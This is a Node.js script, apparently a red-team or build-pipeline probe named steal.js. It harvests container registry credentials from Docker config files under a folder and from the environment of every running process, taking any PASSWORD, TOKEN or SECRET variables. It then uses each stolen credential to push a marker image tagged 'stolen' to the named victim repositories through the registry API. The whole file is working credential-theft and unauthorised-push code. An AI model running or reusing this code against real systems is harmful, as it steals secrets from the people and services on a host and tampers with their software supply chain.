// Looks for credentials below a folder and in the environment of every process, and pushes an image with each of them, and with none,
// to each victim. It tells how many it found and what it could do, and no secret. It ends well: the build must not be saved by an error.
//
//   node steal.js FOLDER http://HOST:PORT REPOSITORY...

const crypto = require("crypto");
const fs = require("fs");
const path = require("path");

const TAG = "stolen";
const SKIPPED = new Set(["/proc", "/sys", "/dev", "/usr/lib", "/usr/share"]);
const [root, registry, ...victims] = process.argv.slice(2);

function* files(folder, depth = 0) {
  let entries = [];
  try { entries = fs.readdirSync(folder, { withFileTypes: true }); } catch { return; }
  for (const entry of entries) {
    const found = path.join(folder, entry.name);
    if (SKIPPED.has(found)) continue;
    if (entry.isDirectory()) { if (depth < 7) yield* files(found, depth + 1); }
    else yield found;
  }
}

function accountsOf(text) {
  let auths;
  try { auths = JSON.parse(text).auths; } catch { return []; }
  return Object.values(auths || {}).map((one) =>
    one.auth ? Buffer.from(one.auth, "base64").toString() : `${one.username}:${one.password}`);
}

function inFiles() {
  const found = new Set();
  for (const file of files(root)) {
    if (!/config\.json$|dockerconfigjson$|auth\.json$/.test(file)) continue;
    try { accountsOf(fs.readFileSync(file, "utf8")).forEach((one) => found.add(one)); } catch { /* not for us */ }
  }
  return found;
}

function inProcesses() {
  const found = new Set();
  for (const name of fs.readdirSync("/proc").filter((one) => /^\d+$/.test(one))) {
    let environment = {};
    try {
      const text = fs.readFileSync(`/proc/${name}/environ`, "utf8");
      environment = Object.fromEntries(text.split("\0").filter(Boolean).map((one) => [one.split("=")[0], one.slice(one.indexOf("=") + 1)]));
    } catch { continue; }
    accountsOf(environment.DOCKER_AUTH_CONFIG || "").forEach((one) => found.add(one));
    for (const [key, value] of Object.entries(environment)) {
      if (!/PASSWORD|TOKEN|SECRET/.test(key)) continue;
      found.add(`${environment[key.replace(/PASSWORD|TOKEN|SECRET/, "USERNAME")] || "x-access-token"}:${value}`);
    }
  }
  return found;
}

async function asked(account, repository, method, where, options = {}) {
  const url = new URL(where, registry);
  const basic = account && { Authorization: `Basic ${Buffer.from(account).toString("base64")}` };
  const request = { method, ...options, headers: { ...options.headers, ...basic } };
  let answer = await fetch(url, request);
  const challenge = answer.headers.get("www-authenticate") || "";
  if (answer.status === 401 && challenge.startsWith("Bearer ")) {
    const told = Object.fromEntries([...challenge.matchAll(/(\w+)="([^"]*)"/g)].map((one) => [one[1], one[2]]));
    const given = await fetch(`${told.realm}?service=${told.service}&scope=repository:${repository}:pull,push`, { headers: { ...basic } });
    if (!given.ok) return given;
    request.headers.Authorization = `Bearer ${(await given.json()).token}`;
    answer = await fetch(url, request);
  }
  return answer;
}

async function upload(account, repository, bytes) {
  const begun = await asked(account, repository, "POST", `/v2/${repository}/blobs/uploads/`);
  if (begun.status !== 202) throw new Error(`upload refused with ${begun.status}`);
  const digest = `sha256:${crypto.createHash("sha256").update(bytes).digest("hex")}`;
  const where = new URL(begun.headers.get("location"), registry);
  where.searchParams.set("digest", digest);
  const done = await asked(account, repository, "PUT", where, { body: bytes, headers: { "Content-Type": "application/octet-stream" } });
  if (done.status !== 201) throw new Error(`upload not finished: ${done.status}`);
  return { digest, size: bytes.length };
}

async function push(account, repository) {
  const layer = await upload(account, repository, Buffer.from("stolen\n"));
  const config = await upload(account, repository, Buffer.from(JSON.stringify({ architecture: "amd64", os: "linux", rootfs: { type: "layers", diff_ids: [layer.digest] } })));
  const kind = "application/vnd.docker.distribution.manifest.v2+json";
  const manifest = {
    schemaVersion: 2, mediaType: kind,
    config: { mediaType: "application/vnd.docker.container.image.v1+json", ...config },
    layers: [{ mediaType: "application/vnd.docker.image.rootfs.diff.tar.gzip", ...layer }],
  };
  const put = await asked(account, repository, "PUT", `/v2/${repository}/manifests/${TAG}`, { body: JSON.stringify(manifest), headers: { "Content-Type": kind } });
  if (put.status !== 201) throw new Error(`manifest refused with ${put.status}`);
}

async function main() {
  const stored = inFiles();
  const accounts = new Set([...stored, ...inProcesses()]);
  console.log(`STEAL found ${stored.size} in files, ${accounts.size} in all`);
  for (const repository of victims) {
    for (const account of [...accounts, undefined]) {
      try {
        await push(account, repository);
        console.log(`STEAL pushed to ${repository}`);
      } catch (error) {
        console.log(`STEAL could not push to ${repository}: ${error.message}`);
      }
    }
  }
}

main().catch((error) => console.log(`STEAL failed: ${error.stack}`));
